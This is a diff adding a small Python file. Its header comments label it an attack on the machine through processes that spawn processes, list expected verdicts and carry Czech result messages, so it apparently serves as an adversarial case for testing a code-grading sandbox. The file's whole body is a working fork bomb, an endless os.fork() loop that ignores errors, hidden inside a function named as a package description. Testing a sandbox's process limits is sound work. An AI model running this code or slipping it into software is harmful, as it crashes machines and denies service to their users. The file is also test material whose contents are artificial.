@@ -1,0 +1,14 @@
+# attacks: the machine, by processes that make processes
+# base: right
+# hits: 11-12
+# verdicts: too slow, ended the program
+# says: Neskončila ani za|Ukončila celý proces
+import os
+
+
+def popis_balicku(balicek):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
